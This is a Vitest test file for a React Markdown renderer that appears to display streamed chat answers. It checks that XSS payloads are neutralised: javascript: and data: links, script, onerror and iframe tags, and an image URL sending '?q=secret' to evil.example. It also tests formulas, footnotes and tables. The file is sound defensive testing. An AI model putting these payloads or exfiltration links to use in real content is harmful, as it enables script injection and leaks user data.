import { NextIntlClientProvider } from "next-intl";
import { prerenderToNodeStream } from "react-dom/static";
import { expect, test } from "vitest";
import { messages } from "#components/messages/messages.ts";
import { Markdown } from "./markdown.tsx";

async function draw(markdown: string, streaming = false): Promise<string> {
  const { prelude } = await prerenderToNodeStream(
    <NextIntlClientProvider locale="en" timeZone="UTC" messages={messages.en}>
      <Markdown streaming={streaming}>{markdown}</Markdown>
    </NextIntlClientProvider>,
  );
  let html = "";
  for await (const bytes of prelude) html += String(bytes);
  return html;
}

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x0a;script:alert(1))",
  "[x](vbscript:msgbox)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "\\(\\href{javascript:alert(1)}{x}\\)",
])("%s leads nowhere", async (markdown) => {
  expect(await draw(markdown)).not.toMatch(/(?:href|src)="(?:j|v|data:text)/i);
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<iframe src=//evil.example></iframe>",
  "a <b onclick=alert(1)>bold</b>",
  "<style>*{display:none}</style>",
  "\\(\\htmlClass{x}{y}\\) \\(\\includegraphics{https://evil.example/x.png}\\)",
])("the HTML in %s is shown and not run", async (markdown) => {
  expect(await draw(markdown)).not.toMatch(/<(?:script|iframe|style|b)[\s>]|<img|<[^>]* on\w+=/);
});

test("a picture from elsewhere is a link, which tells nobody that the answer was read", async () => {
  const html = await draw("![chart](https://evil.example/?q=secret) ![](//evil.example/x.png)");
  expect(html).not.toContain("<img");
  expect(html).toContain('rel="noopener noreferrer nofollow"');
  expect(await draw("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img");
});

test("formulas are drawn in every spelling, and money stays money", async () => {
  const html = await draw("$5 and $10, $x^2$, \\(y\\), $$z$$\n\n\\[\nw = 1\n\\]\n\n`$v$`");
  expect(html.match(/class="katex"/g)).toHaveLength(4);
  expect(html).toContain("katex-display");
  expect(html).toContain("$5 and $10");
  expect(html).toContain("$v$");
  expect(await draw("\\(\\frac{1\\)")).toContain("\\frac{1");
});

test("a note is found from its mark, and the mark from the note", async () => {
  const html = await draw("So it is[^1].\n\nAnd on.\n\n[^1]: Said before.");
  for (const [, id] of html.matchAll(/href="#([^"]+)"/g)) expect(html).toContain(`id="${id}"`);
  expect(html.match(/href="#/g)).toHaveLength(2);
});

test("what is not closed yet is drawn as if it were, while more comes", async () => {
  expect(await draw("one **two", true)).toContain("<strong>two</strong>");
  expect(await draw("one **two")).toContain("**two");
  expect(await draw("[name](https://exam", true)).not.toContain("https://exam");
});

test("tables, tasks and what is struck out are GitHub's; one tilde means about", async () => {
  const html = await draw("- [x] done\n\n| a | b |\n| - | -: |\n| c | ~~d~~ |\n\n20~25 and 30~35");
  expect(html).toMatch(/<input[^>]* disabled=""[^>]* checked=""/);
  expect(html).toMatch(/<td style="text-align:right"><del>d<\/del>/);
  expect(html).toContain("20~25 and 30~35");
});
